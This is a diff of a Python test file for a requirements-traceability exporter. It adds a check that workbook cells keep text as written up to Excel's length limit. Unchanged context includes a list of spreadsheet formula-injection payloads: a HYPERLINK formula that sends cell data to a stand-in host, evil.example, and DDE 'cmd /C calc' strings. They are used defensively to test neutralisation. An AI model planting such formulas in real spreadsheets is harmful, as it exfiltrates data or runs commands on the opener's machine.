@@ -487,7 +487,7 @@ def test_about_and_manifest_record_the_source(exported, needs_json):
         __import__("datetime").datetime.fromtimestamp(epoch, __import__("datetime").timezone.utc).isoformat()[:19])
     assert facts["source needs.json"]["sha256"] == hashlib.sha256(needs_json.read_bytes()).hexdigest()
     assert facts["filter"] == "none (every need)"
-    assert set(facts["tools"]) >= {"python", "openpyxl", "reqif", "lxml", "cyclonedx-bom"}
+    assert set(facts["tools"]) == {"exporter", "python", "reqif", "lxml", "cyclonedx-bom"}  # the workbook: the exporter's
     about = {untext(r[0]): r[1] for r in openpyxl.load_workbook(exported / "traceability.xlsx")["About"]
              .iter_rows(min_row=2, values_only=True)}
     assert about["source commit"] == commit and about["tools: reqif"] == facts["tools"]["reqif"]
@@ -567,6 +567,32 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-1"]
 
 
+def test_workbook_cells_hold_text_as_written_up_to_excels_limit(tmp_path):
+    long = "x" * 40000
+    texts = {"ANY_1": "a < b & c > d \"quoted\" 'single' ]]> <!-- -->", "ANY_2": "  spaces around  ",
+             "ANY_3": "line one\r\nline two\rthree\n", "ANY_4": "_x000D_ as text, \u00e9\u4e2d\U0001f600",
+             "ANY_5": long}
+    needs = {i: {"id": i, "type": "any", "type_name": "Any", "title": t, "content": t, "effort": n, "docname": "d",
+                 "links": [], "links_back": []}
+             for n, (i, t) in enumerate(texts.items())}
+    needs_json = tmp_path / "needs.json"
+    needs_json.write_text(json.dumps(foreign_document(needs)), encoding="utf-8")
+    proc = run_export(needs_json, tmp_path / "out", "--no-sbom")
+    assert proc.returncode == 0, proc.stderr
+    ws = openpyxl.load_workbook(tmp_path / "out" / "traceability.xlsx")["Any"]
+    rows = list(ws.iter_rows(values_only=True))
+    header = rows[0]
+    got = {row[0]: dict(zip(header, row)) for row in rows[1:]}
+    for need_id, written in texts.items():
+        if need_id != "ANY_5":
+            assert got[need_id]["title"] == got[need_id]["content"] == written, need_id
+    cut = got["ANY_5"]["content"]
+    assert len(cut) == 32767 and cut.startswith("x" * 32000) and cut.endswith("the full text is in the CSV file and needs.json]")
+    assert [got[i]["effort"] for i in texts] == [0, 1, 2, 3, 4]  # numbers stay numbers
+    with open(tmp_path / "out" / "type-any.csv", newline="", encoding="utf-8") as f:
+        assert [r for r in csv.reader(f) if r[0] == "ANY_5"][0][1] == long  # the CSV holds it whole
+
+
 def foreign_document(needs: dict, project: str = "Foreign project") -> dict:
     return {"current_version": "1.0", "project": project,
             "versions": {"1.0": {"needs": needs, "needs_amount": len(needs)}}}
@@ -596,8 +622,7 @@ def test_formula_text_is_neutralised_in_csv_and_xlsx(tmp_path):
     titles, _ = read_csvs(out, [])
     assert titles == {i: n["title"] for i, n in needs.items()}
     xlsx_titles, _ = read_xlsx(out / "traceability.xlsx", [])
-    assert {i: t.replace("\r", "\n") for i, t in xlsx_titles.items()} == \
-        {i: n["title"].replace("\r", "\n") for i, n in needs.items()}  # XML reads a CR as a line feed
+    assert xlsx_titles == {i: n["title"] for i, n in needs.items()}  # a CR too (XML reads a raw one as a line feed)
     read = ReadReqIF(out / "traceability.reqif")
     assert {i: n["ReqIF.Name"] for i, n in read.needs.items()} == \
         {i: " ".join(re.split(r"[\t\r]", n["title"])) for i, n in needs.items()}  # attribute values: tab, CR are spaces
